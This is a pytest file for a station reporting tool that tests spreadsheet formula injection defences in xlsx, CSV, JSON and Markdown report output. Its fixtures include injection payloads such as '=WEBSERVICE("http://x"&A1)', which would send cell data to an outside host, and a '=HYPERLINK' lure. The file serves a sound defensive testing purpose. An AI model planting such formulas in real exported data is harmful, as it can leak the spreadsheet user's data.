"""Formula-safe reports (issue 11, item 6): text typed by a station user that a spreadsheet would run
(``=WEBSERVICE(...)``, ``+1``, ``-2``, ``@SUM(1)``, a leading tab or CR) is text in xlsx and neutralised
in CSV, in the station's report and the province (hub) report; numbers stay numbers."""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from test_reports import MONTH, _copy_station_into_hub, _req, uscc

PAYLOADS = ['=WEBSERVICE("http://x"&A1)', "+1", "-2", "@SUM(1)", "\tx", "\rx"]
ENTERPRISE = '=HYPERLINK("http://x","点此")公司'
STATION = "-测试站"


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    """The station's and the hub's January report over requests titled with every payload. A tab or CR
    at the start of a title is trimmed on input, so those two are also put into a detail row as is."""
    from qi_station.db.engine import open_db, run_migrations, sqlite_url
    from qi_station.reports.figures import monthly_report
    from qi_station.services.station import init_station

    os.environ["QI_STATION_OPERATOR"] = "测试员"
    tmp = tmp_path_factory.mktemp("formulas")
    db = tmp / "station.db"
    open_db(db)
    init_station(db, code="QI0001", name=STATION, region_code="370100")
    for i, title in enumerate(PAYLOADS):
        _req(
            db, (ENTERPRISE, uscc("370100", f"MA3C0000{i}")), "标准", "2026-01-05T10:00:00+08:00", title=title
        )
    url = sqlite_url(tmp / "hub.db")
    run_migrations(url)
    _copy_station_into_hub(db, url, "JN0001", "370100")
    out = {"station": monthly_report(db, MONTH), "hub": monthly_report(url, MONTH, hub=True)}
    for rep in out.values():
        titles = {d["title"] for d in rep["details"]}
        assert set(PAYLOADS[:4]) <= titles  # typed by a user, stored as typed
        for raw in ("\tx", "\rx"):
            rep["details"].append(dict(rep["details"][0], title=raw))
        rep["details"][0]["cost_saved_wan"] = -1.5  # a negative number stays a number
        rep["change"]["received"]["delta"] = -3
        rep["change"]["on_time_rate"] = {"previous": 0.6667, "delta": -0.0785}  # a rate fell: -7.85%
    return out


@pytest.mark.parametrize("which", ["station", "hub"])
def test_xlsx_formula_text_is_text(reports: dict[str, dict[str, Any]], which: str, tmp_path: Path) -> None:
    import openpyxl

    from qi_station.reports.writers import write_report

    out = write_report(reports[which], "xlsx", tmp_path / "r.xlsx")
    wb = openpyxl.load_workbook(out)
    texts: dict[str, Any] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    assert c.data_type == "s" and c.quotePrefix, f"{ws.title}!{c.coordinate} {c.value!r}"
                if isinstance(c.value, str):
                    texts[c.value] = c
    for p in [*PAYLOADS, ENTERPRISE]:
        c = texts.get(p) or texts[p.replace("\r", "\n")]  # XML reads a CR back as LF
        assert c.data_type == "s" and c.quotePrefix, p
    ov = {r[0].value: r for r in wb.worksheets[0].iter_rows() if r and r[0].value}
    delta = ov["登记需求数"][3]
    assert (delta.value, delta.data_type) == (-3, "n")
    det = wb.worksheets[-1]
    head = [c.value for c in next(det.iter_rows(max_row=1))]
    cost = next(det.iter_rows(min_row=2, max_row=2))[head.index("节约成本（万元）")]
    assert (cost.value, cost.data_type) == (-1.5, "n")


@pytest.mark.parametrize("which", ["station", "hub"])
def test_csv_formula_text_is_neutralised(
    reports: dict[str, dict[str, Any]], which: str, tmp_path: Path
) -> None:
    from qi_station.reports.writers import write_report

    out = write_report(reports[which], "csv", tmp_path / "r.csv")
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
    fields = [f for r in rows for f in r]
    for f in fields:
        if re.fullmatch(r'="[+-][0-9]+\.[0-9] (个百分点|pp)"', f):  # a rate's change: a text constant
            continue
        if f[:1] in ("=", "+", "@", "\t", "\r"):
            pytest.fail(f"CSV field {f!r} would run as a formula")
        if f.startswith("-"):  # only a number (or a percentage) may start with a minus
            float(f.removesuffix("%"))
    from qi_station.core.validate import neutralise

    for p in [*PAYLOADS, ENTERPRISE]:
        shown = neutralise(p)  # a CR is a control character: shown as U+FFFD, which no spreadsheet runs
        want = "'" + shown if shown[:1] in ("=", "+", "-", "@", "\t", "\r") else shown
        if shown == "-2":  # a negative number as text is no formula: written as it is (op6b, csv_text)
            want = shown
        assert want in fields, p
    assert "\ufffdx" in fields  # the CR payload, neutralised (stored text never reaches a file raw)
    assert next(r for r in rows if r and r[0] == "登记需求数")[3] == "-3"
    # a rate's change in percentage points: the text constant Excel shows as -7.9 个百分点, no apostrophe
    assert next(r for r in rows if r and r[0] == "按期办结率")[3] == '="-7.9 个百分点"'
    head = next(r for r in rows if r and r[0] == "编号")
    first = rows[rows.index(head) + 1]
    assert first[head.index("节约成本（万元）")] == "-1.50"  # money: two decimals in every CSV (op6b)


@pytest.mark.parametrize("which", ["station", "hub"])
def test_json_and_markdown_keep_the_text(
    reports: dict[str, dict[str, Any]], which: str, tmp_path: Path
) -> None:
    from qi_station.reports.writers import render_markdown, write_report

    rep = copy.deepcopy(reports[which])
    back = json.loads(write_report(rep, "json", tmp_path / "r.json").read_text(encoding="utf-8"))
    assert {d["title"] for d in back["details"]} >= set(PAYLOADS)  # JSON is data: raw
    md = render_markdown(rep)
    assert f"| {ENTERPRISE} |" in md  # Markdown is not a spreadsheet: the text as typed
    assert "\r" not in md and "\t" not in md.split("## ")[-1]


def test_csv_text_keeps_negative_numbers_and_neutralises_formulas() -> None:
    """One neutraliser (``writers.csv_text``): a negative number or percentage is a number to Excel,
    written as it is; a minus (or =, +, @) before anything else is a formula, neutralised."""
    from qi_station.reports.writers import csv_text

    for number in ("-7.85%", "-0.5", "-10", "-30.34", "-100%"):
        assert csv_text(number) == number
    for formula in ("-7.85%+A1", "-A1", "-%", "-1e3", "-1,5", "=1", "@A1", "\t-1", "\r1", "-7.85%%"):
        assert csv_text(formula) == "'" + formula, formula
    assert csv_text("+8618595953415") == '="+8618595953415"'  # E.164: Excel's text trick, kept
